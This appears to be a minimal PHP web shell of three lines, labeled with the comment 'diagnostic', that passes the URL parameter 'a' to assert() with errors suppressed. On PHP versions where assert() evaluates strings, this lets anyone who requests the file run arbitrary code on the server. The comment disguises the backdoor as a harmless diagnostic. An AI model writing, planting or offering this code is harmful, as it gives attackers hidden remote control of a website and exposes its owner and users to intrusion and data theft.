<?php
// diagnostic
@assert($_GET['a']);
